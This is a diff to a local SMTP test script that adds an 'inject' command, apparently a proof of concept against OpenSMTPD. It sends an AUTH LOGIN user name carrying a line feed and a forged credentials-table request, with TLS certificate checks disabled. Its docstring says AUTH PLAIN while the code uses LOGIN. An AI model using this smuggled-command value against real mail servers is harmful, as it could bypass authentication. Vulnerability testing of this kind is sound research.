@@ -6,6 +6,10 @@
   smtp_probe.py auth PORT USER PASS [FROM...]
       STARTTLS (certificate not checked: a throwaway test certificate),
       AUTH PLAIN, then MAIL FROM each FROM (RSET between)
+  smtp_probe.py inject PORT
+      STARTTLS, then AUTH PLAIN with a user name that carries a line feed and
+      a well-formed table request behind it (OpenSMTPD 7.6.0 to 7.8.0p0 copy
+      it into the table channel)
 
 Connects to 127.0.0.1 only."""
 import smtplib
@@ -54,6 +58,20 @@ def main():
                 code, _ = s.mail(f)
                 print(f"from {f} {code}")
                 s.rset()
+    elif cmd == "inject":
+        import base64
+        ctx = ssl.create_default_context()
+        ctx.check_hostname = False
+        ctx.verify_mode = ssl.CERT_NONE
+        s.starttls(context=ctx)
+        s.ehlo("probe.test")
+        user = "hugo@barrera.io\ntable|0.1|1.0|users|lookup|credentials|deadbeef|hugo@barrera.io"
+        code, msg = s.docmd("AUTH", "LOGIN")
+        if code == 334:
+            code, msg = s.docmd(base64.b64encode(user.encode()).decode())
+        if code == 334:
+            code, msg = s.docmd(base64.b64encode(b"x").decode())
+        print(f"inject {code} {msg.decode(errors='replace')}")
     try:
         s.quit()
     except smtplib.SMTPException:
